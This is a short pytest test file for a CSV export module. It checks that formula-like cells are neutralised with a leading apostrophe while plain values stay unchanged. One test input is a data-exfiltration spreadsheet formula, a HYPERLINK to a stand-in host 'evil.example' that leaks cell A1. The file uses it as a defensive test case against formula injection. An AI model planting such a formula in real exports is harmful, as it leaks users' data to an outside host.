import io

import pytest

from core.csv_export import csv_writer, safe_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
    ],
)
def test_formula_cells_become_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+3", "Designer", "", 12, None])
def test_plain_values_are_kept(value):
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    csv_writer(out).writerow(["=1+2", "ok", "-4"])
    assert out.getvalue() == "'=1+2,ok,-4\r\n"
